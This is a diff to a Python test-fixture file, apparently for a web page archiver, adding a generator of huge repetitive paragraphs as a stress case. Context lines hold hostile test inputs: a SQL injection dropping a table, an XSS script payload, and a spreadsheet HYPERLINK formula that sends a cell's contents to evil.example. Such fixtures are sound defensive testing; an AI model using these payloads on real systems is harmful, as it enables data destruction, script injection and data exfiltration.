@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable, Iterable
+from random import Random
 
 from .answers import STORY, article, whole
 from .server import Answer
@@ -104,6 +105,14 @@ SQL = "'); DROP TABLE articles; --"
 MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
+
+def _two_words() -> str:
+    """Long paragraphs, each near-duplicate to the others, in which everything repeats."""
+    dice = Random(1)
+    turns = " ".join(dice.choices(("la", "le"), k=20_000))
+    return article("".join(f"<p>{each}th of all {turns} {each}</p>" for each in range(9)))
+
+
 KINDS: dict[str, tuple[Answer, str, str]] = {
     "div-100000-deep": (_deep("div"), "archived|not-article", ""),
     "div-100000-deep-and-closed": (_page(_deep_and_closed), "archived", ""),
@@ -181,6 +190,7 @@ KINDS: dict[str, tuple[Answer, str, str]] = {
         "archived",
         "",
     ),
+    "paragraphs-of-two-words-in-turn": (_page(_two_words), "archived", ""),
     "characters-of-endless-numbers": (
         _page(lambda: article(f"<p>&#{'9' * 50_000}; &amp;#{'7' * 50_000}</p>")),
         "archived",
